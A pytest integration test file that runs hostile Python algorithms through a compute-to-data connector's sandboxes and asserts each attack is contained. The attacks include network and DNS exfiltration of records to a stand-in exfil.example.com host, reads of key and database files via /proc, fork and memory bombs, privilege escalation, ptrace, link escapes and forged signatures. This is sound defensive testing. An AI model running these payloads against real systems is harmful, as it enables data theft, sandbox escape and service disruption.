"""Hostile python algorithms as real signed jobs through data provider A's pipeline (issue 5, item 8), on both
sandbox backends and the real database, one test per attack.

Every hostile algorithm tries its attack and, when everything was blocked, exits with containment.BLOCKED, so the
job FAILS; had anything worked, it would leak the loot and end like a good job (RELEASED, loot in the logs), which
fails the test twice. Attacks the sandbox or the gate stop by themselves (links, caps, timeouts, raw rows) end
the job there. Each test then checks from the host that the attack had no effect, that the job ended REJECTED or
FAILED with a specific reason, released nothing, has a receipt that verifies and leaked nothing (containment.py),
and that a normal job on the same connector is still RELEASED.
"""

from __future__ import annotations

import io
import json
import logging
import os
import re
import socket
import subprocess
import sys
import tarfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import make_url

from compute_to_data import bundle, signing
from compute_to_data.sandbox.base import BACKENDS, Sandbox, SandboxUnavailable, create_sandbox
from connector.persistence.tables import AssetRow, ComputeJobRow
from connector.services.algorithm_source import FetchedAlgorithm
from connector.services.compute_jobs import job_dir
from tests.integration.compute.conftest import B_DID, STUDENTS, Signer, World, manifest
from tests.integration.compute.containment import (
    BLOCKED,
    Secrets,
    WatchedSandbox,
    all_blocked,
    hostile_source,
    job_is_contained,
    key_secrets,
    report_of,
)

CONSENTING = ("alice", "bob", "carol")  # dave never consents
PAYROLL_CANARY = "PAYROLL-CANARY-7f3a9c"
DB_CANARY = "DB-CANARY-52e1b0"
ENV_CANARY = "ENV-CANARY-c41d77"
ENV_NAME = "SOVRA_HOSTILE_CANARY"
RESOURCES = {"cpu": 1, "memory": 256, "gpu": False, "timeout": 5}
SHORT = {**RESOURCES, "timeout": 3}
BLOCKED_EXIT = f"exited with code {BLOCKED}"

_opened: dict[str, Sandbox | str] = {}


def _sandbox(backend: str) -> Sandbox:
    """One probed sandbox per backend for the whole module; unusable: skipped, or failed where required."""
    if backend not in _opened:
        try:
            _opened[backend] = create_sandbox(backend)
        except SandboxUnavailable as exc:
            _opened[backend] = str(exc)
    opened = _opened[backend]
    if isinstance(opened, str):
        if os.environ.get("SOVRA_REQUIRE_SANDBOXES") == "1":
            pytest.fail(f"sandbox backend {backend} is required (SOVRA_REQUIRE_SANDBOXES=1) but unusable: {opened}")
        pytest.skip(f"sandbox backend {backend} is unusable here: {opened}")
    return opened


@dataclass
class Hostile:
    world: World
    sandbox: WatchedSandbox
    secrets: Secrets
    host: dict[str, Any]
    caplog: pytest.LogCaptureFixture
    backend: str
    listeners: list[socket.socket] = field(default_factory=list)

    def run(
        self,
        body: str,
        *,
        resources: dict[str, Any] | None = None,
        signer: Signer | None | str = "b",
        tamper: bool = False,
        **manifest_changes: Any,
    ) -> ComputeJobRow:
        """Publish `body` as B's signed algorithm "hostile", ask for a job and drive it to its end."""
        job_id = self.world.request("hostile")
        host = {**self.host, "job_dir": str(job_dir(self.world.rt, job_id))}
        who = self.world.b if signer == "b" else signer
        assert who is None or isinstance(who, Signer)
        self.world.publish(
            "hostile",
            who,
            main=hostile_source(body, host),
            tamper=tamper,
            resources=resources or RESOURCES,
            **manifest_changes,
        )
        return self.world.run(job_id)

    def contained(self, job: ComputeJobRow, state: str, keyword: str) -> None:
        """The job is contained (see containment.job_is_contained), then the connector still releases a job.

        An exit code is checked in the operator's logs: the reason B sees never carries it."""
        code = re.fullmatch(r"exited with code (\d+)\$?", keyword)
        if code is not None:
            assert job.logs and job.logs.get("exitCode") == int(code.group(1)), job.logs
            assert "exited with code" not in (job.reason or ""), job.reason
            keyword = "exited with an error"
        job_is_contained(self.world, self.sandbox, self.secrets, job, state, keyword, self.caplog.text)
        self.healthy()

    def healthy(self) -> None:
        assert self.world.client.get("/.well-known/dspace-version").status_code == 200
        self.world.publish("career-match", self.world.b)
        job = self.world.run(self.world.request())
        assert job.state == "RELEASED", (job.state, job.reason, job.logs)
        assert set(job.outputs or {}) == {"meanScore"} and job.record_count == len(CONSENTING)

    def tcp_listener(self) -> int:
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("0.0.0.0", 0))
        listener.listen(8)
        listener.setblocking(False)
        self.listeners.append(listener)
        return listener.getsockname()[1]

    def udp_listener(self) -> int:
        receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        receiver.bind(("0.0.0.0", 0))
        receiver.setblocking(False)
        self.listeners.append(receiver)
        return receiver.getsockname()[1]

    def listeners_heard_nothing(self) -> None:
        time.sleep(0.2)
        for listener in self.listeners:
            with pytest.raises(BlockingIOError):
                if listener.type == socket.SOCK_STREAM:
                    listener.accept()
                else:
                    listener.recvfrom(4096)


def _host_addresses() -> list[str]:
    found = {"127.0.0.1"}
    try:
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect(("10.255.255.255", 9))
        found.add(probe.getsockname()[0])
        probe.close()
    except OSError:
        pass
    return sorted(found)


@pytest.fixture(params=BACKENDS)
def hostile(
    request: pytest.FixtureRequest,
    world: World,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Hostile]:
    """A's World with the real sandbox of one backend, three consenting students (dave does not), a second dataset
    and a canary in the database, a canary in the connector's environment, and the host facts an attacker aims at."""
    backend = request.param
    watched = WatchedSandbox(_sandbox(backend))
    world.rt.sandbox = watched
    caplog.set_level(logging.DEBUG, logger="sovra")
    monkeypatch.setenv(ENV_NAME, ENV_CANARY)
    for subject in CONSENTING:
        world.consent(subject)
    settings = world.connector.settings
    payroll = settings.file_root / "payroll.jsonl"
    payroll.write_text(json.dumps({"subject": "erin", "salary": 123456, "note": PAYROLL_CANARY}) + "\n")
    with world.db.unit_of_work() as uow:
        uow.add(
            AssetRow(
                id="payroll",
                properties={"name": "payroll"},
                private_properties={"note": DB_CANARY},
                data_address={"type": "File", "path": str(payroll)},
                created_at=datetime.now(UTC),
            )
        )
    url = make_url(settings.database_url)
    db_file = url.database if url.get_backend_name() == "sqlite" else None
    never = {
        "dave's name": b"Dave Grohl",
        "the second dataset": PAYROLL_CANARY.encode(),
        "the database canary": DB_CANARY.encode(),
        "the connector's environment": ENV_CANARY.encode(),
        "a database file": b"SQLite format 3",
        "the key file": b"PRIVATE KEY",
    }
    never |= {f"{s['subject']}'s email": s["email"].encode() for s in STUDENTS}
    never |= key_secrets(settings.key_path)
    secrets = Secrets(
        never=never,
        input_only={f"{s['subject']}'s name": s["name"].encode() for s in STUDENTS if s["subject"] in CONSENTING},
    )
    host = {
        "data_dir": str(settings.data_dir),
        "key": str(settings.key_path),
        "db": db_file,
        "file_root": str(settings.file_root),
        "students": str(settings.file_root / "students.jsonl"),
        "payroll": str(payroll),
        "tmp": str(tmp_path),
        "work": str(job_dir(world.rt, "x").parent),
        "addresses": _host_addresses(),
        "interpreter": sorted({sys.base_prefix, sys.prefix}),
        "db_port": url.port if db_file is None else None,
        "markers": [
            "PRIVATE KEY",
            "SQLite format 3",
            DB_CANARY,
            PAYROLL_CANARY,
            "Grohl",
            "dave@example.org",
            ENV_CANARY,
        ],
    }
    key_before = settings.key_path.read_bytes()
    data_before = _data_files(settings.data_dir)
    world_hostile = Hostile(world, watched, secrets, host, caplog, backend)
    yield world_hostile
    for listener in world_hostile.listeners:
        listener.close()
    assert settings.key_path.read_bytes() == key_before
    data_after = _data_files(settings.data_dir)
    assert data_after == data_before, "something appeared in or vanished from the connector's data dir"


def _data_files(data_dir: Path) -> list[str]:
    """Everything in the data dir but the compute work folder, which jobs fill and empty (its trash is emptied by a
    thread of its own, so it is not walked at all)."""
    found = []
    for folder, dirs, files in os.walk(data_dir):
        if Path(folder) == data_dir and "c2d" in dirs:
            dirs.remove("c2d")
        found += [str((Path(folder) / name).relative_to(data_dir)) for name in dirs + files]
    return sorted(found)


# -- network ---------------------------------------------------------------------------------------------------------


def test_outbound_tcp(hostile: Hostile) -> None:
    port = hostile.tcp_listener()
    hostile.host["targets"] = [[a, port] for a in hostile.host["addresses"]] + [["1.1.1.1", 80], ["::1", port]]
    if hostile.host["db_port"]:
        hostile.host["targets"].append(["127.0.0.1", hostile.host["db_port"]])
    job = hostile.run("""
import socket
for host, port in HOST["targets"]:
    attempt(f"tcp {host}:{port}", lambda: socket.create_connection((host, port), timeout=1).sendall(b"LEAK") or "sent")
finish()
""")
    all_blocked(report_of(job), [f"tcp 127.0.0.1:{port}", "tcp 1.1.1.1:80"])
    hostile.listeners_heard_nothing()
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


def test_outbound_udp(hostile: Hostile) -> None:
    port = hostile.udp_listener()
    hostile.host["targets"] = [[a, port] for a in hostile.host["addresses"]] + [["8.8.8.8", 9]]
    job = hostile.run("""
import socket
def send(host, port):
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAK", (host, port))
for host, port in HOST["targets"]:
    attempt(f"udp {host}:{port}", lambda: send(host, port))
finish()
""")
    all_blocked(report_of(job), [f"udp 127.0.0.1:{port}"])
    hostile.listeners_heard_nothing()
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


def test_dns(hostile: Hostile) -> None:
    """Name lookups (one naming the data, as DNS exfiltration would) and a raw query to a resolver on the host."""
    hostile.host["resolver"] = ["127.0.0.1", hostile.udp_listener()]
    job = hostile.run("""
import socket
QUERY = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
name = json.loads(open("/input/records.jsonl").readline())["name"].replace(" ", "-")
for host in ("example.com", name + ".exfil.example.com", "host.docker.internal"):
    attempt("resolve " + host.split(".")[0][:4], lambda: socket.getaddrinfo(host, 53))
resolvers = [tuple(HOST["resolver"])]
if os.path.exists("/etc/resolv.conf"):
    resolvers += [(line.split()[1], 53) for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
def ask(resolver):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(QUERY, resolver)
    return s.recvfrom(512)
for resolver in resolvers:
    attempt(f"query {resolver[0]}:{resolver[1]}", lambda: ask(resolver))
finish()
""")
    all_blocked(report_of(job), ["resolve exam", "query 127.0.0.1:" + str(hostile.host["resolver"][1])])
    hostile.listeners_heard_nothing()
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


# -- the connector's own files and other data ------------------------------------------------------------------------

SEARCH = """
SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/opt", "/runtime", "/algorithm",
        *HOST["interpreter"])
def search():
    hits = []
    for root, dirs, files in os.walk("/", onerror=lambda e: None):
        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(SKIP)]
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as fh:
                    data = fh.read(1 << 22)
            except OSError:
                continue
            hits += [[os.path.join(root, name), m] for m in HOST["markers"] if m.encode() in data]
    return hits
attempt("search the visible filesystem", search)
"""


def test_connector_data_dir_key_and_database(hostile: Hostile) -> None:
    """The exact host paths of the World's data dir, key file and SQLite database, directly, through /proc/1/root
    and through the host paths /proc/self/mountinfo reveals (the job's own work folder among them)."""
    job = hostile.run(
        SEARCH
        + """
targets = [HOST[k] for k in ("data_dir", "key", "db", "file_root", "tmp", "work", "job_dir") if HOST[k]]
targets += [HOST["job_dir"] + "/record_subjects.json", HOST["data_dir"] + "/keys"]
for path in targets:
    attempt("read " + path, lambda: read(path))
    attempt("read via /proc/1/root " + path, lambda: read("/proc/1/root" + path))
def mounted_host_paths():
    roots = [line.split()[3] for line in open("/proc/self/mountinfo")]
    got = []
    for root in roots:
        for extra in ("", "/../record_subjects.json", "/../../../keys/connector-key.pem"):
            try:
                got.append([root + extra, read(root + extra)])
            except OSError:
                pass
    return [g for g in got if g[0].startswith(HOST["tmp"])]
attempt("host paths from mountinfo", mounted_host_paths)
finish()
"""
    )
    all_blocked(report_of(job), ["read " + hostile.host["key"], "search the visible filesystem"])
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


def test_other_datasets_and_records_without_consent(hostile: Hostile) -> None:
    """A second dataset file and dave's record (no consent) exist on the host: neither reaches /input nor any
    output. The algorithm hunts for them; the host checks what /input held."""
    job = hostile.run(
        SEARCH
        + """
rows = [json.loads(line) for line in open("/input/records.jsonl")]
attempt("read the second dataset", lambda: read(HOST["payroll"]))
attempt("read the whole students file", lambda: read(HOST["students"]))
attempt("a record beyond the consenting three", lambda: rows[3:])
attempt("columns not declared", lambda: [k for r in rows for k in r if k not in ("_record", "name", "python", "sql")])
attempt("other files in /input", lambda: [n for n in os.listdir("/input") if n not in ("records.jsonl",
                                                                                        "parameters.json")])
finish()
"""
    )
    all_blocked(report_of(job), ["read the second dataset", "a record beyond the consenting three"])
    [run] = hostile.sandbox.runs
    records = [json.loads(line) for line in run.input_before["records.jsonl"].splitlines()]
    assert [r["name"] for r in records] == ["Alice Liddell", "Bob Marley", "Carol Danvers"]
    assert all(set(r) == {"_record", "name", "python", "sql"} for r in records)
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


def test_proc_and_sys_snooping(hostile: Hostile) -> None:
    """Host processes, the connector's environment, the host's sockets and interfaces, writes to /proc and /sys."""
    port = hostile.tcp_listener()
    hostile.host["port_hex"] = f":{port:04X}"
    job = hostile.run("""
pids = [p for p in os.listdir("/proc") if p.isdigit()]
def cmdlines():
    found = []
    for p in pids:
        try:
            found.append(open(f"/proc/{p}/cmdline", "rb").read().replace(b"\\0", b" ").decode())
        except OSError:
            pass
    return [c for c in found if any(w in c for w in ("pytest", "dockerd", "containerd", "sshd", "uvicorn"))]
attempt("host processes", cmdlines)
attempt("more processes than the sandbox's", lambda: len(pids) > 4 and pids)
def environ():
    return [p for p in pids + ["self", "1"] if os.path.exists(f"/proc/{p}/environ")
            and HOST["markers"][-1].encode() in read(f"/proc/{p}/environ")]
attempt("the connector's environment", environ)
attempt("the host's listening socket", lambda: [f for f in ("tcp", "tcp6") if os.path.exists("/proc/net/" + f)
                                                and HOST["port_hex"] in open("/proc/net/" + f).read()])
attempt("host interfaces", lambda: [i for i in os.listdir("/sys/class/net") if i != "lo"])
attempt("/proc/kcore", lambda: read("/proc/kcore")[:64])
attempt("host root through /proc/1/root", lambda: read("/proc/1/root" + HOST["tmp"]))
for path, value in (("/proc/sys/kernel/hostname", "pwned"), ("/proc/sysrq-trigger", "h"),
                    ("/sys/kernel/uevent_helper", "/tmp/x"), ("/proc/self/oom_score_adj", "-1000")):
    attempt("write " + path, lambda: write(path, value))
finish()
""")
    all_blocked(report_of(job), ["host processes", "the connector's environment", "write /proc/sys/kernel/hostname"])
    assert socket.gethostname() != "pwned"
    hostile.listeners_heard_nothing()
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


def test_writing_outside_output(hostile: Hostile) -> None:
    job = hostile.run("""
targets = ["/algorithm/main.py", "/algorithm/new.py", "/input/records.jsonl", "/input/new", "/new", "/usr/new",
           "/etc/passwd", "/runtime/supervisor.py", "/dev/new", "/proc/new", HOST["data_dir"] + "/pwned",
           HOST["key"], HOST["students"], HOST["job_dir"] + "/input/records.jsonl", HOST["job_dir"] + "/pwned",
           HOST["tmp"] + "/pwned"]
for path in targets:
    attempt("write " + path, lambda: write(path, "pwned"))
attempt("mkdir /pwned", lambda: os.mkdir("/pwned") or "made")
attempt("rename /input/records.jsonl", lambda: os.rename("/input/records.jsonl", "/tmp/r") or "renamed")
finish()
""")
    all_blocked(report_of(job), ["write /algorithm/main.py", "write /input/records.jsonl"])
    assert b"pwned" not in hostile.world.connector.settings.key_path.read_bytes()
    written = [name for _folder, dirs, files in os.walk(hostile.host["tmp"]) for name in dirs + files]
    assert "pwned" not in written and "new" not in written  # os.walk: job folders may vanish meanwhile
    [run] = hostile.sandbox.runs
    assert run.input_after == run.input_before and run.algorithm_after == run.algorithm_before
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


# -- links -----------------------------------------------------------------------------------------------------------


def test_symlink_escape(hostile: Hostile) -> None:
    """Output links to the input, the key file and /, one named after a record (the name would carry data)."""
    job = hostile.run("""
name = json.loads(open("/input/records.jsonl").readline())["name"]
os.symlink("/input/records.jsonl", "/output/results.jsonl")
os.symlink(HOST["key"], "/output/" + name)
os.symlink("/", "/output/root")
attempt("read the key through a link in /tmp", lambda: (os.symlink(HOST["key"], "/tmp/k"), read("/tmp/k"))[1])
print(json.dumps(REPORT))
""")
    assert job.state == "FAILED"
    all_blocked(report_of(job))
    [run] = hostile.sandbox.runs
    assert run.output_after == {}, "a link was copied out"
    hostile.contained(job, "FAILED", "symbolic link")


def test_hardlink_escape(hostile: Hostile) -> None:
    """Hard links from the input, the bundle and the host into /output; then one inside /output, named after a
    record."""
    job = hostile.run("""
for source in ("/input/records.jsonl", "/algorithm/main.py", "/etc/passwd", HOST["key"]):
    attempt("link " + source, lambda: os.link(source, "/output/" + os.path.basename(source)) or "linked")
rows = [json.loads(line) for line in open("/input/records.jsonl")]
with open("/output/results.jsonl", "w") as out:
    for row in rows:
        out.write(json.dumps({"_record": row["_record"], "score": 0.5}) + "\\n")
os.link("/output/results.jsonl", "/output/" + rows[0]["name"])
print(json.dumps(REPORT))
""")
    all_blocked(report_of(job), ["link /input/records.jsonl", "link " + hostile.host["key"]])
    [run] = hostile.sandbox.runs
    assert run.output_after == {}, "a hard-linked output was copied out"
    hostile.contained(job, "FAILED", "hard link")


# -- resources -------------------------------------------------------------------------------------------------------


def test_fork_bomb(hostile: Hostile) -> None:
    job = hostile.run(
        """
import time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
""",
        resources=SHORT,
    )
    hostile.contained(job, "FAILED", "wall-clock limit of 3 s")


def test_memory_bomb(hostile: Hostile) -> None:
    job = hostile.run(
        """
chunks = []
def grab():
    while True:
        chunks.append(bytearray(32 << 20))
attempt("allocate without end", grab)
chunks.clear()
finish()
""",
        resources={**RESOURCES, "memory": 128},
    )
    report = report_of(job)
    assert report["allocate without end"].startswith("blocked"), report
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


def test_cpu_spin_past_the_timeout(hostile: Hostile) -> None:
    """A spinning process and a child that ignores SIGTERM, past a 3 s wall clock; the whole tree dies."""
    started = time.monotonic()
    job = hostile.run(
        """
import signal, time
time.sleep(1)
if os.fork() == 0:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.setsid()
    while True:
        pass
while True:
    pass
""",
        resources=SHORT,
    )
    assert time.monotonic() - started < 30
    hostile.contained(job, "FAILED", "wall-clock limit of 3 s")


def test_disk_fill(hostile: Hostile) -> None:
    """/tmp, /dev/shm and /output filled until the kernel says no: each is capped, and a full /output is refused."""
    job = hostile.run("""
def fill(folder, cap):
    written = 0
    try:
        for i in range(10000):
            with open(f"{folder}/fill{i}", "wb") as fh:
                fh.write(b"x" * (1 << 20))
            written += 1 << 20
    except OSError:
        pass
    return written > cap and f"{written} bytes in {folder}"
attempt("fill /tmp", lambda: fill("/tmp", 64 << 20))
attempt("fill /dev/shm", lambda: fill("/dev/shm", 64 << 20))
attempt("fill /output", lambda: fill("/output", (16 << 20) + (64 << 10)))
finish()
""")
    all_blocked(report_of(job), ["fill /tmp", "fill /output"])
    [run] = hostile.sandbox.runs
    assert run.output_after == {}
    hostile.contained(job, "FAILED", "exceed the cap")


def test_huge_output(hostile: Hostile) -> None:
    """Valid rows without end into results.jsonl, and floods of stdout and stderr."""
    job = hostile.run("""
sys.stdout.write("y" * (8 << 20))
sys.stderr.write("z" * (8 << 20))
row = json.dumps({"_record": "r1", "score": 0.5}) + "\\n"
try:
    with open("/output/results.jsonl", "w") as out:
        for _ in range(10 ** 7):
            out.write(row)
except OSError:
    pass
""")
    assert len(job.logs["stdout"]) <= 8192 and len(job.logs["stderr"]) <= 8192
    [run] = hostile.sandbox.runs
    assert run.output_after == {}
    hostile.contained(job, "FAILED", "exceed the cap")


# -- exfiltration ----------------------------------------------------------------------------------------------------


def test_raw_rows_in_outputs(hostile: Hostile) -> None:
    """A declared string output carrying each whole input record: the gate refuses it."""
    outputs = [*manifest()["outputs"], {"name": "note", "scope": "subject", "schema": {"type": "string"}}]
    job = hostile.run(
        """
rows = [json.loads(line) for line in open("/input/records.jsonl")]
with open("/output/results.jsonl", "w") as out:
    for row in rows:
        out.write(json.dumps({"_record": row["_record"], "score": 0.5, "note": json.dumps(row)}) + "\\n")
""",
        outputs=outputs,
    )
    hostile.contained(job, "REJECTED", "release gate refused.*verbatim")


def test_exfiltration_through_logs_and_stdout(hostile: Hostile) -> None:
    """Every record printed to stdout and stderr, then an exception whose message is the records: B sees none of
    it (events, reason, receipt) and A's operator sees it scrubbed."""
    job = hostile.run("""
rows = [json.loads(line) for line in open("/input/records.jsonl")]
for row in rows:
    print(json.dumps(row))
    print("name:", row["name"], file=sys.stderr)
raise RuntimeError(json.dumps(rows))
""")
    assert "[redacted]" in job.logs["stdout"] and "[redacted]" in job.logs["stderr"], job.logs
    assert "RuntimeError" in job.logs["stderr"]
    hostile.contained(job, "FAILED", "exited with code 1$")


# -- processes and privileges ----------------------------------------------------------------------------------------


def test_signals_to_the_parent(hostile: Hostile) -> None:
    """SIGKILL to a host process (by its host pid), the parent, init and everything (-1). Under bubblewrap the
    supervisor is the algorithm's parent and can be killed: the job then fails without a result; under Docker
    it is init and immune, so the algorithm reports and exits BLOCKED. Nothing outside is touched."""
    victim = subprocess.Popen(["sleep", "60"])
    hostile.host["victim"] = victim.pid
    try:
        job = hostile.run("""
import signal, time
for name, target in (("host process", HOST["victim"]), ("init", 1), ("everything", -1), ("parent", os.getppid())):
    attempt("kill " + name, lambda: os.kill(target, signal.SIGKILL))
time.sleep(0.5)
finish()
""")
        assert victim.poll() is None, "a host process was killed from inside the sandbox"
    finally:
        victim.kill()
        victim.wait()
    expected = {"bubblewrap": "supervisor returned no result", "docker": BLOCKED_EXIT}[hostile.backend]
    hostile.contained(job, "FAILED", expected)


def test_setuid_and_capabilities(hostile: Hostile) -> None:
    job = hostile.run("""
import ctypes
for name, call in (("setuid", lambda: os.setuid(0)), ("setgid", lambda: os.setgid(0)),
                   ("setresuid", lambda: os.setresuid(0, 0, 0)), ("chown", lambda: os.chown("/tmp", 0, 0))):
    attempt(name, lambda: call() or os.geteuid() == 0 or os.getegid() == 0)
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
attempt("effective capabilities", lambda: int(status["CapEff"].strip(), 16))
attempt("new privileges allowed", lambda: status["NoNewPrivs"].strip() != "1")
attempt("root uid", lambda: os.geteuid() == 0)
libc = ctypes.CDLL(None, use_errno=True)
attempt("new user namespace", lambda: libc.unshare(0x10000000) == 0)
attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
finish()
""")
    all_blocked(report_of(job), ["setuid", "effective capabilities", "new user namespace"])
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


def test_ptrace(hostile: Hostile) -> None:
    job = hostile.run("""
import ctypes, signal, time
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    time.sleep(10)
    os._exit(0)
parent = os.getppid()
for name, args in (("attach the parent", (16, parent, 0, 0)), ("attach init", (16, 1, 0, 0)),
                   ("attach a child", (16, child, 0, 0)), ("seize a child", (0x4206, child, 0, 0))):
    attempt(name, lambda: libc.ptrace(*args) == 0)
attempt("the parent's memory", lambda: read(f"/proc/{parent}/mem"))
attempt("the parent's fds", lambda: read(f"/proc/{parent}/fd"))
attempt("the parent's environment", lambda: read(f"/proc/{parent}/environ"))
os.kill(child, signal.SIGKILL)
finish()
""")
    all_blocked(report_of(job), ["attach the parent", "attach a child", "the parent's memory"])
    hostile.contained(job, "FAILED", BLOCKED_EXIT)


# -- the artifact ----------------------------------------------------------------------------------------------------

WOULD_LEAK = """
rows = [json.loads(line) for line in open("/input/records.jsonl")]
print(rows)
attempt("ran at all", lambda: "it ran")
finish()
"""


def test_tampered_artifact(hostile: Hostile) -> None:
    job = hostile.run(WOULD_LEAK, tamper=True)
    assert hostile.sandbox.runs == []
    hostile.contained(job, "REJECTED", r"verification failed \(digest\)")


def test_wrong_signer_claiming_to_be_b(hostile: Hostile) -> None:
    """Mallory signs B's statement with her key and names B's key: the signature does not verify."""
    job_id = hostile.world.request("hostile")
    hostile.world.publish(
        "hostile", hostile.world.b, main=hostile_source(WOULD_LEAK, hostile.host), resources=RESOURCES
    )
    fetched = hostile.world.source.bundles["hostile"]
    statement = signing.bundle_statement(
        fetched.archive.name,
        bundle.digest_file(fetched.archive),
        manifest(resources=RESOURCES),
        B_DID,
        started="2026-11-22T00:00:00Z",
        finished="2026-11-22T00:00:00Z",
    )
    forged = signing.sign_statement(statement, hostile.world.mallory.key, B_DID)
    forged["signatures"][0]["keyid"] = f"{B_DID}#{hostile.world.b.key.kid}"
    hostile.world.source.bundles["hostile"] = FetchedAlgorithm(archive=fetched.archive, envelope=forged)
    job = hostile.world.run(job_id)
    assert hostile.sandbox.runs == []
    hostile.contained(job, "REJECTED", r"verification failed \(signature\)")


def test_signer_the_agreement_does_not_allow(hostile: Hostile) -> None:
    """Mallory signs validly as herself; the agreement allows only B."""
    job = hostile.run(WOULD_LEAK, signer=hostile.world.mallory)
    assert hostile.sandbox.runs == [] and job.algorithm_signer == hostile.world.mallory.did
    hostile.contained(job, "REJECTED", "policy does not permit.*algorithmSigner")


def test_unsigned_artifact(hostile: Hostile) -> None:
    job = hostile.run(WOULD_LEAK, signer=None)
    assert hostile.sandbox.runs == []
    hostile.contained(job, "REJECTED", "unsigned")


def test_signed_bundle_with_a_link_to_the_key(hostile: Hostile) -> None:
    """B signs a bundle whose tar holds a symlink to A's key file beside main.py: verification passes (the
    signature is good), unpacking on A's host refuses the link, and nothing runs."""
    world = hostile.world
    archive = world.work / "linked.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        for name, data in (
            ("sovra-algorithm.json", json.dumps(manifest(resources=RESOURCES)).encode()),
            ("main.py", b"print(open('/algorithm/key.pem').read())\n"),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("key.pem")
        link.type, link.linkname = tarfile.SYMTYPE, str(world.connector.settings.key_path)
        tar.addfile(link)
    digest = bundle.digest_file(archive)
    now = datetime.now(UTC).isoformat()
    statement = signing.bundle_statement(
        archive.name, digest, manifest(resources=RESOURCES), B_DID, started=now, finished=now
    )
    world.source.bundles["linked"] = FetchedAlgorithm(archive, signing.sign_statement(statement, world.b.key, B_DID))
    job = world.run(world.request("linked"))
    assert hostile.sandbox.runs == [] and job.algorithm_digest == digest
    assert str(job_dir(world.rt, job.id)) not in (job.reason or "")
    hostile.contained(job, "REJECTED", "bundle is unusable.*symlink")
